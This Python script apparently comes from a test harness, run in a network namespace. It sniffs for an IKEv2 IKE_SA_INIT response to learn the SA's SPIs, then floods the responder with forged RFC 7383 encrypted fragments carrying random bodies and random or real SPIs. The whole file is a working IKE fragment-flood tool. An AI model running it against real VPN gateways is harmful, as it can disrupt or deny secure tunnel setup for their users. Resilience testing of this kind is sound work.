"""Flood forged IKE fragments (RFC 7383 SKF) at a responder while an SA is set up.

`python fragflood.py IFNAME SRC DST SECONDS` runs inside the initiator's namespace:
it sniffs IFNAME for the responder's IKE_SA_INIT response to learn the SA's SPIs,
and for SECONDS sends, from SRC:4500 to DST:4500 (raw socket, non-ESP marker):
fragments with random SPIs, and, once the SPIs are known, fragments of the real
SA's IKE_AUTH request (message ID 1, numbers 1..4 of 4, and some of 1 of 9) whose
bodies are random, so their integrity check fails. Prints the counts as JSON.

Standard library only: it runs under `ip netns exec` with no project imports.
"""

from __future__ import annotations

import json
import os
import random
import socket
import struct
import sys
import time

ETH_P_IP = 0x0800
ETH_P_ALL = 0x0003
SKF, IKE_SA_INIT, IKE_AUTH = 53, 34, 35
FLAG_INITIATOR, FLAG_RESPONSE = 0x08, 0x20
PACE = 0.0005


def skf(spi_i: bytes, spi_r: bytes, number: int, total: int, body: bytes) -> bytes:
    payload = struct.pack("!BBHHH", 0 if number > 1 else 35, 0, 8 + len(body), number,
                          total) + body
    header = struct.pack("!8s8sBBBBII", spi_i, spi_r, SKF, 0x20, IKE_AUTH, FLAG_INITIATOR, 1,
                         28 + len(payload))
    return b"\x00\x00\x00\x00" + header + payload


def datagram(src: str, dst: str, data: bytes) -> bytes:
    udp = struct.pack("!HHHH", 4500, 4500, 8 + len(data), 0) + data
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64,
                         socket.IPPROTO_UDP, 0, socket.inet_aton(src), socket.inet_aton(dst))
    return header + udp


def learn_spis(sniffer: socket.socket, dst: str) -> tuple[bytes, bytes] | None:
    """The SPI pair of an IKE_SA_INIT response from ``dst``, if one is waiting."""
    try:
        packet, addr = sniffer.recvfrom(65535)
    except BlockingIOError:
        return None
    if addr[1] != ETH_P_IP or len(packet) < 56 or packet[9] != socket.IPPROTO_UDP:
        return None
    ihl = (packet[0] & 0x0F) * 4
    if socket.inet_ntoa(packet[12:16]) != dst:
        return None
    ike = packet[ihl + 8:]
    if len(ike) >= 28 and ike[18] == IKE_SA_INIT and ike[19] & FLAG_RESPONSE:
        spi_i, spi_r = ike[:8], ike[8:16]
        if any(spi_r):
            return spi_i, spi_r
    return None


def main(argv: list[str]) -> int:
    if len(argv) != 4:
        print("usage: fragflood.py IFNAME SRC DST SECONDS", file=sys.stderr)
        return 2
    ifname, src, dst, seconds = argv[0], argv[1], argv[2], float(argv[3])
    rng = random.Random(7383)
    sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_ALL))
    sniffer.bind((ifname, ETH_P_ALL))
    sniffer.setblocking(False)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    print(json.dumps({"ready": True}), flush=True)
    spis: tuple[bytes, bytes] | None = None
    counts = {"random_spi": 0, "known_spi": 0}
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if spis is None:
            spis = learn_spis(sniffer, dst)
        if spis is not None and rng.random() < 0.7:
            total = 4 if rng.random() < 0.8 else 9
            number = rng.randint(1, total)
            data = skf(spis[0], spis[1], number, total, os.urandom(rng.choice((64, 160, 240))))
            counts["known_spi"] += 1
        else:
            data = skf(os.urandom(8), os.urandom(8), rng.randint(1, 4), 4, os.urandom(96))
            counts["random_spi"] += 1
        raw.sendto(datagram(src, dst, data), (dst, 0))
        time.sleep(PACE)
    print(json.dumps({**counts, "spis_learned": spis is not None}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
